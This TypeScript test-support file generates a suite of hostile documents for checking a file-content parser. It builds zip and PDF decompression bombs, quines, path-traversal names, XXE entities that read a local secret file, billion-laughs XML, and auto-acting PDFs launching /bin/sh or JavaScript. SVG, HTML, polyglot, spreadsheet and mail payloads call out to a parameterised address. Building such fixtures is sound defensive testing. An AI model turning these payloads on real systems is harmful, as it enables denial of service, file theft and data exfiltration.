import { bomb } from '@verbundakte/filecontent/test-support/bomb'
import { docx, odt, paragraph, xlsx } from '@verbundakte/filecontent/test-support/office'
import { manyPages, pdfBombe, rawPdf } from '@verbundakte/filecontent/test-support/pdf'
import { zip } from '@verbundakte/filecontent/test-support/zip'
import { lzwBomb, manyEntries, nested, overlapping } from './hostile-archives.ts'
import { zipQuine } from './zip-quine.ts'

/** A file that somebody sends to do harm. */
export interface Hostile {
  readonly name: string
  readonly fileName: string
  readonly bytes: Buffer
}

const XML = '<?xml version="1.0"?>'
const LAUGHS = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')
const TYPES = { name: '[Content_Types].xml', content: '<Types/>' }
const PAGES = '<</Type/Pages/Count 1/Kids[3 0 R]>>'
const PAGE = (more = '') => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]${more}>>`

/** @param away an address that must not be asked @param secret path of a file that must not be read */
export function hostileFiles(away: string, secret: string): Hostile[] {
  return [
    ...archives(),
    ...pdfs(away),
    ...drawings(away, secret),
    ...office(away, secret),
    ...polyglots(away),
    ...mails(away),
  ].map(([name, fileName, bytes]) => ({ name, fileName, bytes: Buffer.from(bytes) }))
}

type Line = readonly [name: string, fileName: string, bytes: Buffer | string]

function archives(): Line[] {
  const traversal = ['../../../../tmp/verbundakte-traversal', '/tmp/verbundakte-traversal', 'C:\\..\\x', 'a\0b']
  return [
    ['an archive in an archive, 200 deep', 'tief.zip', nested(200)],
    ['a Word document of 4,000 parts that are one and the same bomb', 'brief.docx', overlapping(4_000)],
    ['100,000 entries', 'viele.docx', manyEntries(100_000)],
    [
      'a document that claims 4 GiB',
      'gross.docx',
      zip([{ name: 'word/document.xml', content: 'x', claimedSize: 2 ** 32 - 1 }, TYPES]),
    ],
    [
      'a document that claims nothing and is 2 GiB',
      'klein.docx',
      zip([TYPES, { name: 'word/document.xml', content: '', ready: bomb(2048, '<a>'), claimedSize: 0 }]),
    ],
    ['names that lead elsewhere', 'namen.zip', zip(traversal.map((name) => ({ name, content: 'x' })))],
    [
      'a workbook whose texts are a bomb',
      'mappe.xlsx',
      zip([
        TYPES,
        { name: 'xl/workbook.xml', content: '<workbook/>' },
        { name: 'xl/sharedStrings.xml', content: '', ready: bomb(600, '<sst>') },
      ]),
    ],
    ['a Word document whose text is the document itself', 'quine.docx', zipQuine()],
    ['an archive that contains only itself and its types', 'quine.zip', zipQuine()],
    ['an archive cut off in its directory', 'ab.zip', zip([{ name: 'a', content: 'x'.repeat(9_000) }]).subarray(0, 60)],
  ]
}

function pdfs(away: string): Line[] {
  const catalogue = (more: string) => `<</Type/Catalog/Pages 2 0 R${more}>>`
  const file = '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>'
  const active = [
    `/OpenAction<</S/JavaScript/JS(app.launchURL\\("${away}"\\);this.submitForm\\("${away}"\\))>>`,
    `/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>`,
    `/OpenAction<</S/URI/URI(${away})>>/AA<</WC<</S/GoToR/F(${away})>>>>`,
    `/OpenAction<</S/SubmitForm/F<</FS/URL/F(${away})>>>>/Names<</EmbeddedFiles<</Names[(a)${file}]>>>>`,
    `/AcroForm<</XFA(<xdp xmlns="http://ns.adobe.com/xdp/"><script>fetch("${away}")</script></xdp>)>>`,
  ]
  const image = (filter: string) =>
    `<</Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/${filter}/Length 4>>\nstream\nabcd\nendstream`
  const stream = (content: Buffer, more: string) =>
    Buffer.concat([Buffer.from(`<</Length ${content.length}${more}>>\nstream\n`), content, Buffer.from('\nendstream')])
  const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`
  const ring = Buffer.from(
    rawPdf([catalogue(''), PAGES, PAGE()])
      .toString('latin1')
      .replace('/Root', '/Prev 9/Root'),
    'latin1',
  )
  const start = ring.lastIndexOf('xref\n0')
  const endless = Buffer.from(ring.toString('latin1').replace('/Prev 9', `/Prev ${start}`), 'latin1')
  return [
    ...active.map(
      (more, n): Line => [
        `a PDF that acts by itself (${n + 1})`,
        'aktiv.pdf',
        rawPdf([catalogue(more), PAGES, PAGE(), stream(Buffer.from('MZ'), '/Type/EmbeddedFile')]),
      ],
    ),
    ['a PDF of lists in lists, 200,000 deep', 'tief.pdf', rawPdf([catalogue(`/X ${deep}`), PAGES, PAGE()])],
    ['a PDF whose tables point at themselves', 'ring.pdf', endless],
    [
      'a PDF whose pages are their own parents',
      'eltern.pdf',
      rawPdf([catalogue(''), '<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>']),
    ],
    [
      'a PDF whose page draws itself',
      'form.pdf',
      rawPdf([
        catalogue(''),
        PAGES,
        PAGE('/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>>>'),
        stream(Buffer.from('/A Do'), ''),
        stream(
          Buffer.from('/A Do /A Do'),
          '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A 5 0 R>>>>',
        ),
      ]),
    ],
    ['a PDF of 10,000 pages', 'seiten.pdf', manyPages(10_000)],
    ['a PDF that unpacks to 2 GiB', 'bombe.pdf', pdfBombe(2048)],
    ['a PDF that unpacks by LZW', 'lzw.pdf', manyPages(1, stream(lzwBomb(120), '/Filter/LZWDecode'))],
    [
      'a PDF that is packed eight times',
      'stapel.pdf',
      manyPages(1, stream(bomb(9), `/Filter[${'/FlateDecode'.repeat(8)}]`)),
    ],
    ...['JBIG2Decode', 'JPXDecode', 'CCITTFaxDecode'].map(
      (filter): Line => [
        `a PDF with a picture of 30 GB (${filter})`,
        'bild.pdf',
        rawPdf([
          catalogue(''),
          PAGES,
          PAGE('/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>>>'),
          stream(Buffer.from('/A Do'), ''),
          image(filter),
        ]),
      ],
    ),
  ]
}

function drawings(away: string, secret: string): Line[] {
  const svg = (inside: string, before = '') =>
    `${XML}${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`
  return [
    [
      'a drawing with a script',
      'a.svg',
      svg(`<script>fetch("${away}")</script><circle onload="fetch('${away}')" r="9"/>`),
    ],
    [
      'a drawing that reads a file',
      'b.svg',
      svg('<text>&f;</text>', `<!DOCTYPE svg [<!ENTITY f SYSTEM "file://${secret}">]>`),
    ],
    [
      'a drawing with a page in it',
      'c.svg',
      svg(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${away}"/></foreignObject>`),
    ],
    [
      'a drawing that shows what lies elsewhere',
      'd.svg',
      svg(`<image xlink:href="${away}"/><use xlink:href="file://${secret}#a"/>`),
    ],
    [
      'a drawing of a billion laughs',
      'e.svg',
      svg('<text>&l12;</text>', `<!DOCTYPE svg [<!ENTITY l0 "ha">${LAUGHS}]>`),
    ],
    ['a drawing that calls itself a picture', 'foto.png', svg(`<script>fetch("${away}")</script>`)],
  ]
}

function office(away: string, secret: string): Line[] {
  const word = (xml: string) => zip([TYPES, { name: 'word/document.xml', content: xml }])
  const relations = `<Relationships><Relationship Id="r1" Type="t/attachedTemplate" Target="${away}" TargetMode="External"/></Relationships>`
  return [
    [
      'a Word document that reads a file',
      'f.docx',
      word(`${XML}<!DOCTYPE a [<!ENTITY f SYSTEM "file://${secret}">]><w:t>&f;</w:t>`),
    ],
    ['a Word document with a DTD elsewhere', 'g.docx', word(`${XML}<!DOCTYPE a SYSTEM "${away}"><w:t>x</w:t>`)],
    [
      'a Word document of a billion laughs',
      'h.docx',
      word(`${XML}<!DOCTYPE a [<!ENTITY l0 "ha">${LAUGHS}]><w:t>&l12;</w:t>`),
    ],
    [
      'a Word document with a template elsewhere',
      'i.docx',
      docx(paragraph('Brief'), { name: 'word/_rels/document.xml.rels', content: relations }),
    ],
    ['an ODF text that reads a file', 'j.odt', odt('<text:p>&f;</text:p>', '').subarray(0)],
    [
      'a workbook with a query elsewhere',
      'k.xlsx',
      xlsx(['x'], { A: `<row><c><f>WEBSERVICE("${away}")</f><v>1</v></c></row>` }),
    ],
    [
      'XML by itself that reads a file',
      'l.xml',
      `${XML}<!DOCTYPE a [<!ENTITY f SYSTEM "file://${secret}"><!ENTITY % p SYSTEM "${away}">%p;]><a>&f;</a>`,
    ],
    ['XML of a billion laughs', 'm.xml', `${XML}<!DOCTYPE a [<!ENTITY l0 "ha">${LAUGHS}]><a>&l12;</a>`],
  ]
}

function polyglots(away: string): Line[] {
  const page = `<html><body><script>fetch("${away}")</script><img src="${away}"><iframe src="${away}"></iframe></body></html>`
  return [
    ['a web page that calls itself a PDF', 'n.pdf', page],
    [
      'a web page that is a PDF too',
      'o.pdf',
      Buffer.concat([
        Buffer.from(`<!--\n`),
        Buffer.from(rawPdf(['<</Type/Catalog/Pages 2 0 R>>', PAGES, PAGE()])),
        Buffer.from(`-->${page}`),
      ]),
    ],
    ['a web page that is a picture too', 'p.png', Buffer.concat([PNG, Buffer.from(page)])],
    ['a script that is a picture too', 'q.gif', `GIF89a/*\0\0*/=1;fetch("${away}")`],
    ['a web page in a text', 'r.txt', `\n\n${page}`],
    ['a web page in UTF-7', 's.txt', `+ADw-script+AD4-fetch("${away}")+ADw-/script+AD4-`],
    ['a page of 100,000 elements in each other', 't.html', '<div>'.repeat(100_000)],
  ]
}

function mails(away: string): Line[] {
  const head = (n: number) => `From: a@example.org\r\nTo: b@example.org\r\nSubject: ${n}\r\nMIME-Version: 1.0\r\n`
  let inner = `${head(0)}\r\nEnde\r\n`
  for (let n = 1; n <= 1000; n++) inner = `${head(n)}Content-Type: message/rfc822\r\n\r\n${inner}`
  const external = `${head(1)}Content-Type: message/external-body; access-type=URL; URL="${away}"\r\n\r\nContent-Type: text/html\r\n\r\n`
  const html = `${head(1)}Content-Type: text/html\r\n\r\n<img src="${away}"><link rel=stylesheet href="${away}"><script src="${away}"></script>`
  const many = `${head(1)}${Array.from({ length: 100_000 }, (_, n) => `X-${n}: y\r\n`).join('')}\r\nx`
  const names = `${head(1)}Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html; name="../../../../tmp/verbundakte-traversal"\r\nContent-Disposition: attachment\r\n\r\n<script>1</script>\r\n--x--\r\n`
  return [
    ['a mail in a mail, 1,000 deep', 'u.eml', inner],
    ['a mail whose body lies elsewhere', 'v.eml', external],
    ['a mail that looks who reads it', 'w.eml', html],
    ['a mail of 100,000 lines of head', 'x.eml', many],
    ['a mail whose attachment wants to lie elsewhere', 'y.eml', names],
  ]
}
